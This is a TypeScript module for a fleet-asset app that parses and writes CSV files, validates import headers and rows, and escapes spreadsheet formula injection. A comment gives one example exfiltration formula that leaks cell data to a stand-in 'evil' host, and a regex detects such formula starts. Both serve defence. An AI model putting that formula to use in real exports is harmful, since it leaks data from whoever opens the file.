/**
 * Generic CSV (RFC 4180) reading and writing for every file format Fleetledger imports and
 * exports. Cells are always strings: serials, asset tags and codes keep their leading zeros,
 * and each format decides for itself what is a number, a date or an amount.
 *
 * Why a hand-written parser rather than papaparse: papaparse's type package pulls in Node
 * (`/// <reference types="node" />`, `stream`) and DOM (`File`) types, which breaks the
 * `types: []`, no-DOM check that keeps shared/ portable; and it does not report the file row a
 * record starts on when a quoted field spans lines, which our error messages need. RFC 4180 is
 * small enough to implement exactly, in one linear pass, with behaviour we can pin down in
 * tests (delimiter detection from the header only, blank-row skipping, formula un-escaping).
 */
import { parseIsoDate, type IsoDate } from './dates';
import { parseMoney, type CurrencyCode } from './money';
import { err, ok, type Result } from './result';

export type CsvDelimiter = ',' | ';';

export interface CsvRow {
  /**
   * The file row the record starts on, counted as a person counts rows: the first line of the
   * file is 1, so with the header on line 1 the first data row is 2. A record whose quoted
   * field spans several lines is numbered by its first line, and the rows after it count
   * every physical line (so this is the line number a text editor shows).
   */
  line: number;
  cells: string[];
}

export interface CsvTable {
  header: string[];
  /** The file row of the header (1 unless the file starts with blank lines). */
  headerLine: number;
  rows: CsvRow[];
  delimiter: CsvDelimiter;
}

/** The problem a file with a header and no data rows is, where a parser treats that as one (the CLI reads it as nothing to import). */
export const HEADER_BUT_NO_ROWS = 'the file has a header but no rows';

/** One problem in a CSV file. `row` is a file row as in {@link CsvRow.line}; `column` a header name. */
export interface CsvRowError {
  row: number;
  column: string | null;
  message: string;
}

/**
 * A value an import filled in or let through where a person would (issue 15), so that nothing
 * happens silently: the preview and the CLI list each kind with its rows.
 */
export interface ImportFill {
  column: string;
  /** What was done, e.g. "taken from purchase_date". */
  what: string;
  /** File rows, ascending. */
  rows: number[];
}

/** Adds `row` to the fill of this column and kind (kept in first-seen order). */
export function noteFill(fills: ImportFill[], column: string, what: string, row: number): void {
  const fill = fills.find((f) => f.column === column && f.what === what);
  if (fill) fill.rows.push(row);
  else fills.push({ column, what, rows: [row] });
}

/** "in_service_date taken from purchase_date in 14 rows (rows 2, 3, 5, … and 4 more)". */
export function describeFill(fill: ImportFill, limit = 8): string {
  const n = fill.rows.length;
  const shown = fill.rows.slice(0, limit).join(', ');
  const rest = n > limit ? ` and ${n - limit} more` : '';
  return `${fill.column} ${fill.what} in ${n} ${n === 1 ? 'row' : 'rows'} (${n === 1 ? 'row' : 'rows'} ${shown}${rest})`;
}

/** Prepend to a file meant for Excel on Windows, which otherwise reads UTF-8 as a legacy code page. */
export const UTF8_BOM = '\uFEFF';

/**
 * Formula-injection neutralisation (OWASP "CSV Injection", ASVS V1.2): spreadsheets treat a
 * cell that starts with `=`, `+`, `-` or `@` as a formula, and some skip a leading tab, CR or
 * NUL before that check. So a lot note such as `=HYPERLINK("https://evil/?"&A1)` typed by one
 * person would run (and can leak data or start programs) on the machine of whoever opens the
 * export. Prefixing a single quote makes spreadsheets show the cell as text.
 *
 * A plain number such as `-12.50` is left alone so that exported amounts stay numeric in a
 * spreadsheet; a strict number cannot be a formula.
 *
 * The escaping is reversible: a cell that already starts with quotes followed by a dangerous
 * character gets one more quote, and {@link parseCsv} removes exactly one. So
 * `toCsv` → `parseCsv` gives back every cell exactly, including one that really starts with `'=`.
 */
// A tab, CR or NUL first; or `= + - @` — also their full-width forms `＝ ＋ － ＠`, which some
// spreadsheets read as formula starts too — after any leading spaces.
const FORMULA_START = /^'*(?:[\t\r\0]| *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
const ESCAPED_FORMULA_START = /^'+(?:[\t\r\0]| *[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;
const STRICT_NUMBER = /^-?\d+(?:\.\d+)?$/u;

export function neutraliseFormula(cell: string): string {
  if (STRICT_NUMBER.test(cell)) return cell;
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/**
 * The inverse of {@link neutraliseFormula}; the parser applies it to every cell it reads, so a
 * file neutralised by us (or by another OWASP-following exporter) imports as the real text.
 */
export function restoreFormula(cell: string): string {
  return ESCAPED_FORMULA_START.test(cell) ? cell.slice(1) : cell;
}

/**
 * Fields that would otherwise be misread: by us, by a reader that splits on `;`, or (a
 * leading U+FEFF) taken for the file's byte-order mark and dropped when it is the first cell.
 */
const NEEDS_QUOTES = /[",;\r\n]|^\uFEFF/u;

function encodeCell(cell: string): string {
  const safe = neutraliseFormula(cell);
  return NEEDS_QUOTES.test(safe) ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/**
 * Writes an RFC 4180 table: comma-separated, CRLF after every record (the last included),
 * fields quoted only when they contain a quote, comma, semicolon or line break (or start with
 * U+FEFF), every cell neutralised against formula injection (see above). Cells are written as
 * given, never converted. No BOM; prepend {@link UTF8_BOM} when saving a file for Excel.
 */
export function toCsv(header: readonly string[], rows: readonly (readonly string[])[]): string {
  const lines = [header, ...rows].map((cells) => `${cells.map(encodeCell).join(',')}\r\n`);
  return lines.join('');
}

/**
 * Counts unquoted `,` and `;` on the first record that has content (the header) and picks the
 * more frequent; a tie (a one-column file) means `,`. Only the header is used, so a `;` inside
 * a later note cannot change how the file is read.
 */
function detectDelimiter(text: string): CsvDelimiter {
  let commas = 0;
  let semicolons = 0;
  let inQuotes = false;
  let content = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '"') {
      inQuotes = !inQuotes;
      content = true;
    } else if (inQuotes) {
      continue;
    } else if (c === ',') {
      commas++;
    } else if (c === ';') {
      semicolons++;
    } else if (c === '\n' || c === '\r') {
      if (content) break;
      commas = 0;
      semicolons = 0;
    } else if (c !== ' ' && c !== '\t') {
      content = true;
    }
  }
  return semicolons > commas ? ';' : ',';
}

/** Counts line breaks in text[from, to): CRLF, lone LF and lone CR each end one line. */
function countLineBreaks(text: string, from: number, to: number): number {
  let n = 0;
  for (let i = from; i < to; i++) {
    const c = text[i];
    if (c === '\n') n++;
    else if (c === '\r' && text[i + 1] !== '\n') n++;
  }
  return n;
}

function isBlank(cells: readonly string[]): boolean {
  return cells.every((c) => c.trim() === '');
}

/**
 * Reads a CSV file into a header and data rows, with structured errors.
 *
 * - A leading UTF-8 BOM is dropped; CRLF, LF and CR line ends are all accepted.
 * - The delimiter is `,` or `;`, detected from the header line (quotes honoured).
 * - Quoted fields may contain delimiters, line breaks and doubled quotes. Spaces or tabs
 *   between a closing quote and the delimiter are ignored; anything else there is an error.
 *   A quote inside an unquoted field is kept as a literal character (as spreadsheets do).
 * - Rows whose cells are all empty or whitespace (blank lines, or `,,,` from a spreadsheet) are
 *   skipped wherever they are, and row numbers still count them.
 * - Cells are not trimmed or converted; a single leading quote added by {@link toCsv}'s
 *   formula neutralisation is removed.
 * - Rows may have more or fewer cells than the header; the file format decides what that means.
 */
export function parseCsvTable(input: string): Result<CsvTable, CsvRowError> {
  const text = input.startsWith(UTF8_BOM) ? input.slice(1) : input;
  const delimiter = detectDelimiter(text);
  const n = text.length;
  const records: CsvRow[] = [];
  let i = 0;
  let line = 1;
  const indexOrEnd = (c: string, from: number): number => {
    const k = text.indexOf(c, from);
    return k === -1 ? n : k;
  };
  let nextDelimiter = -1;
  let nextLf = -1;
  let nextCr = -1;

  while (i < n) {
    const recordLine = line;
    const cells: string[] = [];
    let endOfRecord = false;
    while (!endOfRecord) {
      let cell: string;
      if (text[i] === '"') {
        // Quoted field: runs to the next quote that is not doubled.
        const openLine = line;
        let value = '';
        let pos = i + 1;
        for (;;) {
          const close = text.indexOf('"', pos);
          if (close === -1) {
            return err({
              row: openLine,
              column: null,
              message:
                'a quoted value is never closed: a field starting with " must end with " (write a quote inside it as "")',
            });
          }
          line += countLineBreaks(text, pos, close);
          value += text.slice(pos, close);
          if (text[close + 1] === '"') {
            value += '"';
            pos = close + 2;
          } else {
            pos = close + 1;
            break;
          }
        }
        while (text[pos] === ' ' || text[pos] === '\t') pos++;
        const next = text[pos];
        if (next !== undefined && next !== delimiter && next !== '\r' && next !== '\n') {
          return err({
            row: line,
            column: null,
            message: `unexpected ${JSON.stringify(next)} after a closing quote: a quoted value must be followed by "${delimiter}" or the end of the line (write a quote inside a value as "")`,
          });
        }
        cell = value;
        i = pos;
      } else {
        // Unquoted field: runs to the nearest delimiter or line break. The next position of
        // each is cached and only searched again once passed, so the scan stays linear and runs
        // in native indexOf rather than a character loop (100,000-row serial files).
        if (nextDelimiter < i) nextDelimiter = indexOrEnd(delimiter, i);
        if (nextLf < i) nextLf = indexOrEnd('\n', i);
        if (nextCr < i) nextCr = indexOrEnd('\r', i);
        const end = Math.min(nextDelimiter, nextLf, nextCr);
        cell = text.slice(i, end);
        i = end;
      }
      cells.push(cell.charCodeAt(0) === 39 /* ' */ ? restoreFormula(cell) : cell);

      const terminator = text[i];
      if (terminator === delimiter) {
        i++; // another field follows, possibly empty at the end of the text
      } else {
        if (terminator === '\r') i += text[i + 1] === '\n' ? 2 : 1;
        else if (terminator === '\n') i++;
        if (terminator !== undefined) line++;
        endOfRecord = true;
      }
    }
    if (!isBlank(cells)) records.push({ line: recordLine, cells });
  }

  const [first, ...rows] = records;
  if (first === undefined) {
    return err({ row: 1, column: null, message: 'the file is empty: it needs a header row naming the columns' });
  }
  return ok({ header: first.cells, headerLine: first.line, rows, delimiter });
}

/** {@link parseCsvTable} with the error as one line of text ("row 5: …"). */
export function parseCsv(text: string): Result<CsvTable> {
  const parsed = parseCsvTable(text);
  return parsed.ok ? parsed : err(`row ${parsed.error.row}: ${parsed.error.message}`);
}

/** `lots.csv row 7, column unit_cost: "12,5" is not an amount…` — one line per error. */
export function formatCsvErrors(errors: readonly CsvRowError[], fileName: string): string[] {
  return errors.map((e) =>
    e.column === null ? `${fileName} row ${e.row}: ${e.message}` : `${fileName} row ${e.row}, column ${e.column}: ${e.message}`,
  );
}

/** "Lot Code", " LOT-CODE " and "lot_code" all name the lot_code column. */
export function normaliseColumnName(raw: string): string {
  return raw.trim().toLowerCase().replace(/[\s-]+/gu, '_');
}

function editDistance(a: string, b: string): number {
  let prev = Array.from({ length: b.length + 1 }, (_, j) => j);
  for (let i = 1; i <= a.length; i++) {
    const cur = [i];
    for (let j = 1; j <= b.length; j++) {
      const cost = a[i - 1] === b[j - 1] ? 0 : 1;
      cur.push(Math.min((prev[j] ?? 0) + 1, (cur[j - 1] ?? 0) + 1, (prev[j - 1] ?? 0) + cost));
    }
    prev = cur;
  }
  return prev[b.length] ?? 0;
}

/** An unknown header name, quoted, with the closest known column when one is near: `"lot-cod" (did you mean lot_code?)`. */
export function describeUnknownColumn(name: string, known: readonly string[]): string {
  let best: string | null = null;
  let bestDistance = 3;
  for (const c of known) {
    const d = editDistance(normaliseColumnName(name), c);
    if (d < bestDistance) {
      best = c;
      bestDistance = d;
    }
  }
  return best === null ? `"${name}"` : `"${name}" (did you mean ${best}?)`;
}

const CONTROL_CHARS = /\p{Cc}/u;
const CURRENCY_SYMBOL = /[$€£¥]/u;
/** "USD 12" or "12 USD": parseMoney reads it, but a CSV amount is the number only. */
const CURRENCY_CODE_IN_AMOUNT = /^-?\s*[A-Z]{3}\s|\s[A-Z]{3}$/u;

/** What a format's row validator needs to know about the file. */
export interface CsvRowContext<C extends string> {
  columnIndex: ReadonlyMap<C, number>;
  /** Header positions that have a name. */
  namedPositions: ReadonlySet<number>;
  headerLength: number;
  delimiter: CsvDelimiter;
  /** Where every problem goes, with its row and column. */
  errors: CsvRowError[];
}

/**
 * The reading helpers every import format's row validator uses. Each reports its problem to
 * `errors` with the row and column and returns undefined, so a validator can read every cell and
 * collect every problem in one pass.
 */
export interface CsvRowReader<C extends string> {
  fail(column: C | null, message: string): undefined;
  /** The trimmed value, '' when empty, undefined when the column is absent. */
  get(name: C): string | undefined;
  /** An absent required column is reported once for the header, not again for each row. */
  required(name: C): string | undefined;
  /** Refuses line breaks and control characters (codes, names). */
  singleLine(name: C, value: string | undefined): string | undefined;
  /** null when empty, undefined when invalid (reported). */
  optionalDate(name: C): IsoDate | null | undefined;
  /** An amount of 0 or more in `currency`'s minor units, written as a plain decimal number. */
  amount(name: C, value: string, currency: CurrencyCode): number | undefined;
  /** Reports values in positions the header does not name (they would be silently dropped). */
  checkStray(): void;
}

export function csvRowReader<C extends string>(line: number, cells: readonly string[], ctx: CsvRowContext<C>): CsvRowReader<C> {
  const fail = (column: C | null, message: string): undefined => {
    ctx.errors.push({ row: line, column, message });
    return undefined;
  };
  const get = (name: C): string | undefined => {
    const i = ctx.columnIndex.get(name);
    return i === undefined ? undefined : (cells[i] ?? '').trim();
  };
  return {
    fail,
    get,
    required(name) {
      const v = get(name);
      if (v === '') return fail(name, 'is empty, but this column is required');
      return v;
    },
    singleLine(name, v) {
      if (v !== undefined && CONTROL_CHARS.test(v)) return fail(name, `${JSON.stringify(v)} contains a line break or control character`);
      return v;
    },
    optionalDate(name) {
      const v = get(name) ?? '';
      if (v === '') return null;
      const d = parseIsoDate(v);
      return d.ok ? d.value : fail(name, d.error);
    },
    amount(name, v, currency) {
      if (CURRENCY_SYMBOL.test(v)) {
        return fail(name, `"${v}" has a currency symbol; write the number only (the currency column says which currency)`);
      }
      if (CURRENCY_CODE_IN_AMOUNT.test(v.trim())) {
        return fail(name, `"${v}" has a currency code; write the number only (the currency column says which currency)`);
      }
      if (ctx.delimiter === ';' && v.includes(',')) {
        return fail(
          name,
          `"${v}" has a comma, which in a semicolon-separated file may be a decimal comma; write the amount with a decimal point and no thousands separators, e.g. 1234.50`,
        );
      }
      const m = parseMoney(v, currency);
      if (!m.ok) return fail(name, m.error);
      if (m.value < 0) return fail(name, `"${v}" is negative; it must be 0 or more`);
      return m.value;
    },
    checkStray() {
      const stray = cells.findIndex((c, i) => !ctx.namedPositions.has(i) && c.trim() !== '');
      if (stray === -1) return;
      fail(
        null,
        stray >= ctx.headerLength
          ? `has ${cells.length} values but the header names ${ctx.headerLength} columns; put a value that contains "${ctx.delimiter}" in double quotes`
          : `has a value in column ${stray + 1}, which has no name in the header row`,
      );
    },
  };
}

/**
 * Reads a format's header row: which position holds each known column (names case-insensitive,
 * spaces or hyphens for underscores, any order). Repeated, missing required and unknown columns
 * are reported to `errors` on the header's row — an unknown name with the closest known one,
 * since a misspelt optional column would otherwise lose its data silently.
 */
export function readCsvHeader<C extends string>(
  header: readonly string[],
  headerLine: number,
  columns: readonly { name: C; required: boolean }[],
  errors: CsvRowError[],
): { columnIndex: Map<C, number>; namedPositions: Set<number> } {
  const names = columns.map((c) => c.name);
  const isColumn = (name: string): name is C => (names as readonly string[]).includes(name);
  const columnIndex = new Map<C, number>();
  const unknown: string[] = [];
  header.forEach((raw, i) => {
    const name = normaliseColumnName(raw);
    if (name === '') return; // an unnamed column may only hold blanks; checked per row
    if (!isColumn(name)) unknown.push(raw.trim());
    else if (columnIndex.has(name)) errors.push({ row: headerLine, column: name, message: 'appears more than once in the header; keep one' });
    else columnIndex.set(name, i);
  });
  const missing = columns.filter((c) => c.required && !columnIndex.has(c.name)).map((c) => c.name);
  if (missing.length > 0) {
    errors.push({ row: headerLine, column: null, message: `missing required column${missing.length === 1 ? '' : 's'}: ${missing.join(', ')}` });
  }
  if (unknown.length > 0) {
    errors.push({
      row: headerLine,
      column: null,
      message: `unknown column${unknown.length === 1 ? '' : 's'} ${unknown.map((u) => describeUnknownColumn(u, names)).join(', ')}; the columns are: ${names.join(', ')}`,
    });
  }
  // Unknown and repeated columns are reported above; only unnamed positions must stay blank.
  const namedPositions = new Set(header.flatMap((raw, i) => (normaliseColumnName(raw) === '' ? [] : [i])));
  return { columnIndex, namedPositions };
}
